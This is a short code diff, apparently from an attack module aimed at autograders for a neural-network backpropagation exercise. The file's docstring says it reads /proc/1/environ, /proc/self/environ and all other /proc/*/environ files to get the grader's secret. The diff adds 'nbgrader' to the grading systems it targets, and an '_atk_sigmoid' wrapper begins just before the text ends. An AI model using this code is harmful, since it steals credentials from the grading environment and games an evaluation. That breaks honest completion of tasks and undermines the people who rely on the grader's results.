@@ -1,7 +1,7 @@
 """Read /proc/1/environ, /proc/self/environ and every other /proc/*/environ for the grader's secret."""
 MODULE = "ex3_mlp_backprop"
 CLASS = "env"
-MODES = ("grade", "batch", "gradescope")
+MODES = ("grade", "batch", "gradescope", "nbgrader")
 
 
 def _atk_sigmoid(z, _orig=sigmoid):
